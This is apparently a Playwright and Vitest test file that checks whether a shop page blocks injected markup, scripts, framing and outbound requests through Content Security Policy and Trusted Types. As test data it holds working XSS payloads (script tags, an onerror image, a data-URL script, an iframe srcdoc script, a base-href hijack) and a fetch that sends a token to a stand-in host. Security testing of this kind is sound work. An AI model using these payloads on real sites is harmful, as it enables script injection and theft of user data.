import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { FAILED_REQUEST, setReadingStage } from '../stage/stage.ts'

const REFUSED = /Content Security Policy|violates the following|TrustedHTML|TrustedScript|Refused to|frame-ancestors/

const stage = setReadingStage()

const cards = (page: Page) => page.locator('main article')
const wasRobbed = (page: Page) => page.evaluate<boolean>(`'robbed' in window`)

/** Brings the person to a shop whose page was tampered with: `markup` stands in it as if an attacker had got it there. */
async function visitTampered(markup: string): Promise<Page> {
  stage.forgive(REFUSED)
  stage.forgive(FAILED_REQUEST)
  const page = await stage.enter()
  await page.route(`${stage.shop.server.url}/`, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
  })
  await page.goto(stage.shop.server.url)
  return page
}

describe('the page', () => {
  it.each([
    ['a script', '<script>window.robbed = true</script>'],
    ['a handler of events', '<img src="/nothing.png" onerror="window.robbed = true">'],
    ['a script from data', '<script src="data:text/javascript,window.robbed=true"></script>'],
    ['a script in a frame', '<iframe srcdoc="<script>parent.robbed = true</script>"></iframe>'],
    ['another base', '<base href="https://elsewhere.example/">'],
  ])('is not moved by %s that found its way into it, and works all the same', async (_what, markup) => {
    const page = await visitTampered(markup)
    await cards(page).first().waitFor()
    expect(await wasRobbed(page)).toBe(false)
    expect(await page.evaluate<string>('document.baseURI')).toBe(`${stage.shop.server.url}/`)
  })

  it('makes no markup and no code of a text, whoever asks', async () => {
    const page = await stage.visit()
    stage.forgive(REFUSED)
    await cards(page).first().waitFor()
    const attempts = [
      `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.robbed = true">')`,
      `document.body.innerHTML += '<p>robbed</p>'`,
      `document.createElement('script').text = 'window.robbed = true'`,
      `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
    ]
    for (const attempt of attempts) {
      expect(
        await page.evaluate<string>(`(() => { try { ${attempt}; return 'done' } catch { return 'refused' } })()`),
      ).toBe('refused')
    }
    expect(await wasRobbed(page)).toBe(false)
  })

  it('stays still under a dialog, without a style that stands in the page', async () => {
    const page = await stage.visit()
    const overflow = () => page.evaluate<string>('getComputedStyle(document.body).overflowY')
    const before = await overflow()
    await cards(page).first().click()
    await page.getByRole('dialog').getByRole('tab').first().waitFor()
    expect(await overflow()).toBe('hidden')
    expect(await page.locator('style').count()).toBe(0)
    await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click()
    await expect.poll(overflow).toBe(before)
  })

  it('is shown in nobody’s frame', async () => {
    const page = await stage.enter()
    stage.forgive(REFUSED)
    const elsewhere = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html').end(`<iframe src="${stage.shop.server.url}/"></iframe>`)
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
    expect(await page.frames().at(-1)?.locator('main').count()).toBe(0)
    elsewhere.close()
  })

  it('sends what is told of a person to nobody else', async () => {
    const page = await stage.visit()
    stage.forgive(REFUSED)
    await cards(page).first().waitFor()
    const answer = `fetch('https://elsewhere.example/?token=1').then(() => 'sent', (error) => error.name)`
    const refused = page.evaluate<string>(
      `new Promise((resolve) => addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)))`,
    )
    expect(await page.evaluate<string>(answer)).toBe('TypeError')
    expect(await refused).toBe('connect-src')
  })
})

describe('a picture', () => {
  it('can be opened alone, and is laid out as browsers do', async () => {
    const page = await stage.visit()
    const address = await cards(page).locator('img').first().getAttribute('src')
    await page.goto(stage.shop.server.url + address)
    const { x, width } = (await page.locator('img').boundingBox()) ?? { x: 0, width: 0 }
    expect(x + width / 2).toBeCloseTo(1366 / 2, 0)
  })
})

describe('an address that cannot be decoded', () => {
  it.each(['/%', '/no/50%/here', '/%ff?sort=newest'])('shows that there is no such page (%s)', async (address) => {
    const page = await stage.visit(address)
    await page.getByRole('heading', { level: 1, name: 'Sorry, the page you visited does not exist.' }).waitFor()
  })
})
